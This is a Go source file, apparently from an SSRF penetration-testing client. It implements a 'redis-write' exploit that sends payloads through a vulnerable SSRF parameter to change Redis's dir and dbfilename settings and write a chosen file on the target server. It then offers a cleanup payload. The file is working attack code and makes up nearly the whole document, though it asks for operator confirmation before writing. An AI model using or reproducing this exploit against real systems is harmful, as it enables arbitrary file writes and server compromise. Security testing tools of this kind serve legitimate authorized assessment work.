@@ -0,0 +1,89 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"log/slog"
+	"os"
+	"os/signal"
+	"strings"
+	"syscall"
+
+	"gosssrf-client/config"
+	"gosssrf-client/logging"
+	"gosssrf-client/payloads"
+	"gosssrf-client/scanner"
+)
+
+// runExploit 通过已确认的SSRF参数执行Redis写文件利用（-exploit redis-write）
+// 先读取Redis当前的 dir 和 dbfilename 用于生成清理payload，写入和清理前都需要输入确认
+func runExploit(cfg *config.Config, console *logging.Console) {
+	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
+	defer cancel()
+	det := startDetector(ctx, cfg)
+	defer det.Close()
+
+	target, param := cfg.Targets[0], cfg.ParamName
+	sm := scanner.NewScanManager(cfg, det, console, nil, nil, nil)
+	stdin := bufio.NewReader(os.Stdin)
+
+	// 读取原配置，SSRF不返回响应内容时清理payload使用Redis的默认配置
+	dir, file := payloads.RedisDefaultDir, payloads.RedisDefaultFile
+	_, resp, err := sm.Send(ctx, target, param, payloads.RedisConfigPayload(cfg.RedisHost, cfg.RedisPort))
+	if err != nil {
+		slog.Error(fmt.Sprintf("读取Redis配置失败: %v", err))
+		os.Exit(1)
+	}
+	if d, f, ok := payloads.ParseRedisConfig(resp); ok {
+		dir, file = d, f
+		slog.Info(fmt.Sprintf("Redis当前配置: dir=%s dbfilename=%s", dir, file))
+	} else {
+		slog.Warn(fmt.Sprintf("响应中没有 CONFIG GET 的结果，清理时恢复为默认配置 dir=%s dbfilename=%s，请确认目标的实际配置", dir, file))
+	}
+
+	w := payloads.NewRedisWrite(cfg.RedisMode, cfg.RedisHost, cfg.RedisPort, cfg.RedisPath, cfg.RedisContent)
+	console.Result(config.ColorYellow, fmt.Sprintf("目标: %s 参数: %s\nRedis: %s\n写入文件: %s\n写入内容: %s\n",
+		target, param, cfg.RedisAddr, w.Path, strings.TrimSpace(w.Content)))
+	slog.Warn("写入会覆盖目标文件，并修改Redis的 dir 和 dbfilename 配置")
+	if !confirm(stdin, fmt.Sprintf("确认通过SSRF向 %s 写入 %s？输入 yes 继续: ", cfg.RedisAddr, w.Path)) {
+		slog.Info("已取消")
+		return
+	}
+
+	statusCode, resp, err := sm.Send(ctx, target, param, w.Payload())
+	if err != nil {
+		slog.Error(fmt.Sprintf("发送写入payload失败: %v", err))
+		os.Exit(1)
+	}
+	if strings.Count(resp, "+OK") >= 4 {
+		console.Result(config.ColorRed, fmt.Sprintf("[redis-write] 已写入 %s\n", w.Path))
+	} else {
+		slog.Warn(fmt.Sprintf("写入payload已发送 (状态码 %d)，响应中没有Redis的执行结果，请手动确认 %s 是否写入", statusCode, w.Path))
+	}
+
+	cleanup := w.CleanupPayload(dir, file)
+	console.Result(config.ColorNone, fmt.Sprintf("清理payload (删除写入的键并恢复 dir=%s dbfilename=%s):\n%s\n", dir, file, cleanup))
+	if !confirm(stdin, "是否立即发送清理payload？输入 yes 发送: ") {
+		slog.Info(fmt.Sprintf("未发送清理payload，测试结束后请通过参数 %s 发送上面的清理payload，并手动删除 %s", param, w.Path))
+		return
+	}
+	if _, resp, err = sm.Send(ctx, target, param, cleanup); err != nil {
+		slog.Error(fmt.Sprintf("发送清理payload失败: %v", err))
+		os.Exit(1)
+	}
+	if strings.Count(resp, "+OK") >= 3 {
+		slog.Info("已恢复Redis配置")
+	} else {
+		slog.Warn("清理payload已发送，响应中没有Redis的执行结果，请手动确认Redis配置是否恢复")
+	}
+	slog.Warn(fmt.Sprintf("Redis无法删除已写入的文件，请手动删除 %s", w.Path))
+}
+
+// confirm 输出提示并从标准输入读取一行，输入 yes 或 y 时返回 true
+func confirm(stdin *bufio.Reader, prompt string) bool {
+	fmt.Fprint(os.Stderr, prompt)
+	line, _ := stdin.ReadString('\n')
+	answer := strings.ToLower(strings.TrimSpace(line))
+	return answer == "yes" || answer == "y"
+}